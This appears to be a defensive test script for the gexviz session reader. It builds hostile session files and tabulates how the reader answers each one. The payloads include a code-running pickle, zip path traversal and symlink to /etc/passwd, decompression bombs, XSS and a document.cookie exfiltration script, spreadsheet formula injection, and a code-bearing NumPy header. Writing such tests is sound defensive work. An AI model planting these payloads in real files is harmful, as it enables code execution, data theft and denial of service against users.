"""Session files that somebody means ill with, and what gexviz answers to each: ``python tests/hostile_sessions.py``."""

from __future__ import annotations

import io
import json
import multiprocessing
import pickle
import resource
import struct
import sys
import time
import zipfile
from collections.abc import Callable, Iterator
from multiprocessing.connection import Connection
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
from session_files import a_session, forged, members, sealed, zipped

from gexviz.errors import GexvizError
from gexviz.session.reading import read_session

EVIL = Path("/tmp/gexviz-was-executed")
BOMB = 300_000_000

Hostile = Callable[[], bytes]


class Payload:
    """Makes a file when it is unpickled."""

    def __reduce__(self):
        return Path.touch, (EVIL,)


def manifest(**changed) -> dict:
    return json.loads(members()["manifest.json"]) | changed


def state(**changed) -> bytes:
    return json.dumps(json.loads(members()["state.json"]) | changed).encode()


def note(**changed) -> bytes:
    return json.dumps(json.loads(members()["notes.jsonl"]) | changed).encode() + b"\n"


def parquet(table: pd.DataFrame | pa.Table | None = None, **options) -> bytes:
    if table is None:
        table = a_session().tables["evaluation"]
    if isinstance(table, pd.DataFrame):
        table = pa.Table.from_pandas(table, preserve_index=False).replace_schema_metadata(None)
    made = io.BytesIO()
    pq.write_table(table, made, **{"compression": "none", "store_schema": False, "write_statistics": False} | options)
    return made.getvalue()


def evaluation(**changed) -> pd.DataFrame:
    return a_session().tables["evaluation"].assign(**changed)


def lying_parquet() -> bytes:
    """The codec of a column is one that nobody knows; pyarrow's own look at it ends the process."""
    content = parquet(use_dictionary=False)
    length = struct.unpack("<I", content[-8:-4])[0]
    begin = len(content) - 8 - length
    at = content.index(b"\x19\x18\x04gene\x15\x00", begin) + 8  # path_in_schema, then the codec
    return content[:at] + b"\x40" + content[at + 1 :]


def npz(packed: bool = False, **changed) -> bytes:
    arrays = dict(a_session().arrays["G1-cnn-ism"]) | changed
    made = io.BytesIO()
    (np.savez_compressed if packed else np.savez)(made, **{k: v for k, v in arrays.items() if v is not None})
    return made.getvalue()


def npz_with_header(header: str) -> bytes:
    """Arrays of which one has a header made by hand."""
    text = header.encode() + b" " * (63 - (10 + len(header)) % 64) + b"\n"
    array = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + bytes(64)
    with zipfile.ZipFile(io.BytesIO(npz())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    return zipped(parts | {"values.npy": array}, packed=zipfile.ZIP_STORED)


def with_entry(entry: str | zipfile.ZipInfo, content: bytes = b"x") -> bytes:
    return zipped([*members().items(), (entry, content)])


def link() -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo("report.html")
    entry.create_system, entry.external_attr = 3, 0o120777 << 16
    return entry


def mark_encrypted(archive: zipfile.ZipFile) -> None:
    archive.filelist[1].flag_bits |= 1


def claim_little(archive: zipfile.ZipFile) -> None:
    archive.getinfo("report.html").file_size = 100


def few(content: bytes) -> bytes:
    return content[:-14] + struct.pack("<HH", 7, 7) + content[-10:]


def overlap(archive: zipfile.ZipFile) -> None:
    """Two names for the same bytes."""
    state_entry, notes_entry = archive.getinfo("state.json"), archive.getinfo("notes.jsonl")
    notes_entry.header_offset = state_entry.header_offset


def repeated_text() -> bytes:
    """1.9 million times the same 10,000 letters, which a dictionary makes some KB of."""
    rows = 1_900_000
    text = pa.DictionaryArray.from_arrays(pa.array(np.zeros(rows, np.int32)), pa.array(["x" * 10_000]))
    numbers = pa.nulls(rows, pa.int64())
    return parquet(pa.table({"gene": text, "contig": text, "start": numbers, "end": numbers}))


def many_rows() -> bytes:
    rows = 3_000_000
    kinds = {"gene": pa.string(), "contig": pa.string(), "start": pa.int64(), "end": pa.int64()}
    return parquet(pa.table({column: pa.nulls(rows, kind) for column, kind in kinds.items()}))


CONTAINER: dict[str, Hostile] = {
    "empty file": lambda: b"",
    "text, no zip": lambda: b"gene,value\n" * 100,
    "cut off": lambda: zipped(members())[:-1_000],
    "a program before the zip": lambda: b"#!/bin/sh\necho hello\n" + zipped(members()),
    "a comment behind the zip": lambda: zipped(members(), comment=b"<script>alert(1)</script>"),
    "unknown member": lambda: with_entry("run_me.py"),
    "a pickle": lambda: with_entry("arrays/G1.pkl", pickle.dumps(Payload())),
    "repeated member": lambda: zipped([*members().items(), ("state.json", b"{}")]),
    "absolute path": lambda: with_entry("/etc/cron.d/gexviz"),
    "path with ..": lambda: with_entry("tables/../../evil.parquet"),
    "path with \\": lambda: with_entry("tables\\..\\evil.parquet"),
    "name with NUL": lambda: with_entry("state.json_.png").replace(b"state.json_.png", b"state.json\0.png"),
    "name with terminal codes": lambda: with_entry("\x1b[2Jcleared"),
    "symbolic link": lambda: zipped(
        [(n, c) for n, c in members().items() if n != "report.html"] + [(link(), b"/etc/passwd")]
    ),
    "folder": lambda: with_entry("tables/", b""),
    "encrypted member": lambda: zipped(members(), change=mark_encrypted),
    "packed with bzip2": lambda: zipped(members(), packed=zipfile.ZIP_BZIP2),
    "10,000 members": lambda: zipped({f"arrays/a{i}.npz": b"" for i in range(10_000)}),
    "60,000 members that say they are 7": lambda: few(zipped({f"arrays/a{i}.npz": b"" for i in range(60_000)})),
    "bomb: 300 MB of zeros": lambda: with_bomb(),
    "bomb: 300 MB that say 100 bytes": lambda: with_bomb(change=claim_little),
    "bomb: 20 members of 15 MB": lambda: zipped(
        members() | {f"arrays/a{i}.npz": bytes(15_000_000) for i in range(20)}
    ),
    "two names for the same bytes": lambda: zipped(members(), change=overlap),
    "member missing": lambda: zipped({n: c for n, c in members().items() if n != "state.json"}),
    "member changed, digest not": lambda: zipped(members() | {"report.html": b"<script>alert(1)</script>"}),
    "member that the manifest doesn't know": lambda: zipped(
        members() | {"tables/groups.parquet": members()["tables/evaluation.parquet"]}
    ),
}

DOCUMENTS: dict[str, Hostile] = {
    "not JSON": lambda: forged(state=b"{'title': 1}"),
    "not UTF-8": lambda: forged(state=b'{"title": "\xff\xfe"}'),
    "NaN": lambda: zipped(sealed(members() | {"manifest.json": json.dumps(manifest(people=float("nan"))).encode()})),
    "Infinity": lambda: zipped(members() | {"manifest.json": json.dumps(manifest(k=float("inf"))).encode()}),
    "number beyond any": lambda: forged_manifest(b'"parameters": {"x": 1e999}'),
    "number of 100,000 digits": lambda: forged_manifest(b'"people": ' + b"9" * 100_000),
    "key twice": lambda: forged(state=b'{"title": "a", "title": "b"}'),
    "unknown key": lambda: forged(state=state(__class__="os.system")),
    "nested 100,000 times": lambda: forged(state=b"[" * 100_000 + b"]" * 100_000),
    "text of 1 MB as title": lambda: forged(state=state(title="x" * 1_000_000)),
    "40 MB of spaces in a document": lambda: forged(state=b" " * 40_000_000 + b"{}"),
    "1 million empty lists": lambda: forged(state=b"[" + b"[]," * 1_000_000 + b"[]]"),
    "150,000 keys": lambda: forged(state=("{" + ",".join(f'"{i}":0' for i in range(150_000)) + "}").encode()),
    "half a character": lambda: forged(state=b'{"title": "\\ud800"}'),
    "terminal codes in a title": lambda: forged(state=state(title="\x1b]0;owned\x07")),
    "views of one id": lambda: forged(state=state(views=2 * json.loads(members()["state.json"])["views"])),
    "another version": lambda: zipped(members() | {"manifest.json": json.dumps(manifest(schema_version=2)).encode()}),
    "note without anchor": lambda: forged(notes=note(anchor={})),
    "two notes of one id that differ": lambda: forged(notes=note() + note(text="other")),
    "note of the year 1": lambda: forged(notes=note(time="0001-01-01T00:00:00+14:00")),
    "note of 1 MB": lambda: forged(notes=note(text="x" * 1_000_000)),
    "HTML in note and title": lambda: forged(
        notes=note(text="<script>alert(1)</script><img src=x onerror=alert(1)>"), state=state(title="<h1>hi</h1>")
    ),
    "formula in note and author": lambda: forged(notes=note(text='=HYPERLINK("http://x")', author="@SUM(A1)")),
    "script in report.html": lambda: forged(report=b"<script>fetch('http://x/'+document.cookie)</script>"),
}

TABLE: dict[str, Hostile] = {
    "not Parquet": lambda: forged(evaluation=b"PAR1" + bytes(100) + b"PAR1"),
    "column missing": lambda: forged(evaluation=parquet(evaluation().drop(columns="q"))),
    "text where numbers are": lambda: forged(evaluation=parquet(evaluation(pearson="=1+1"))),
    "numbers where text is": lambda: forged(evaluation=parquet(evaluation(gene=1))),
    "dates": lambda: forged(evaluation=parquet(evaluation(when=pd.Timestamp("2026-01-01")))),
    "bytes": lambda: forged(evaluation=parquet(evaluation(raw=[b"\x80\x04.", b""]))),
    "lists": lambda: forged(evaluation=parquet(evaluation(nested=[[1], [2]]))),
    "pandas and extension types in metadata": lambda: forged(
        evaluation=parquet(pa.Table.from_pandas(evaluation()), store_schema=True)
    ),
    "terminal codes in a cell": lambda: forged(evaluation=parquet(evaluation(gene="\x1b[2J"))),
    "100,000 letters in a cell": lambda: forged(evaluation=parquet(evaluation(gene="x" * 100_000))),
    "packed with zstd": lambda: forged(evaluation=parquet(compression="zstd")),
    "encoded as differences": lambda: forged(
        evaluation=parquet(use_dictionary=False, column_encoding={"gene": "DELTA_BYTE_ARRAY"})
    ),
    "codec that nobody knows": lambda: forged(evaluation=lying_parquet()),
    "3 million rows": lambda: forged(exons=many_rows()),
    "19 GB of text in some KB": lambda: forged(exons=repeated_text()),
    "people at level aggregate": lambda: forged(
        people=parquet(pd.DataFrame({"person": ["p1"], "population": ["x"]}))
    ),
    "formula in a cell": lambda: forged(evaluation=parquet(evaluation(status='=cmd|"/c calc"!A1'))),
}

ARRAY: dict[str, Hostile] = {
    "pickled array": lambda: forged(arrays=npz(values=np.array([Payload()], dtype=object))),
    "packed array (bomb in the bomb)": lambda: forged(arrays=npz(packed=True, values=np.zeros((60, 4), np.float32))),
    "further array": lambda: forged(arrays=npz(more=np.zeros(3))),
    "missing array": lambda: forged(arrays=npz(ref=None)),
    "other numbers": lambda: forged(arrays=npz(values=np.zeros((60, 4), np.float64))),
    "other shape": lambda: forged(arrays=npz(values=np.zeros((60, 5), np.float32))),
    "NaN in an array": lambda: forged(arrays=npz(values=np.full((60, 4), np.nan, np.float32))),
    "no bases": lambda: forged(arrays=npz(ref=np.full(60, ord("<"), np.uint8))),
    "header that claims 16 TB": lambda: forged(
        arrays=npz_with_header("{'descr': '<f4', 'fortran_order': False, 'shape': (4398046511104,), }")
    ),
    "header of code": lambda: forged(arrays=npz_with_header("__import__('pathlib').Path('/tmp/x').touch()")),
    "header nested 5,000 times": lambda: forged(arrays=npz_with_header("(" * 5_000 + ")" * 5_000)),
    "track without arrays": lambda: forged(arrays=None),
}

HOSTILE: dict[str, Hostile] = CONTAINER | DOCUMENTS | TABLE | ARRAY

KEPT = {"HTML in note and title", "formula in note and author", "script in report.html", "formula in a cell"}
"""What is no fault of a file: kept as text, and made harmless where it is shown or exported."""


def with_bomb(change=None) -> bytes:
    parts = [(n, c) for n, c in members().items() if n != "report.html"]
    return zipped([*parts, ("report.html", bytes(BOMB))], change=change)


def forged_manifest(line: bytes) -> bytes:
    """A manifest with a line that replaces its own, written by hand."""
    key = line.split(b":")[0].strip(b'"').decode()
    rest = json.dumps({k: v for k, v in manifest().items() if k != key}).encode()
    return zipped(members() | {"manifest.json": rest[:-1] + b", " + line + b"}"})


def answer(content: bytes) -> str:
    """What gexviz says to a file."""
    try:
        read_session(content, "x.gexviz.zip")
    except GexvizError as error:
        return f"{error.problem} ({error.place})"
    return "kept as text"


def answers() -> Iterator[tuple[str, int, str, float, float]]:
    """Each input, the bytes of its file, the answer, and what it took: seconds, MB beyond what the process had.

    Each is read in a process of its own.
    """
    context = multiprocessing.get_context("fork")
    for name, made in HOSTILE.items():
        content = made()
        told, telling = context.Pipe(duplex=False)
        child = context.Process(target=measured, args=(content, telling))
        child.start()
        telling.close()
        yield name, len(content), *(told.recv() if told.poll(60) else ("no answer in 60 s", 60.0, float("nan")))
        child.kill()


def measured(content: bytes, telling: Connection) -> None:
    before, start = peak(), time.perf_counter()
    said = answer(content)
    telling.send((said, time.perf_counter() - start, peak() - before))


def peak() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1e3


if __name__ == "__main__":
    print("| file | bytes | answer | ms | MB |")
    print("|---|--:|---|--:|--:|")
    for name, size, said, seconds, memory in answers():
        print(f"| {name} | {size:,} | {said} | {1000 * seconds:.0f} | {memory:.0f} |")
    sys.exit(EVIL.exists())
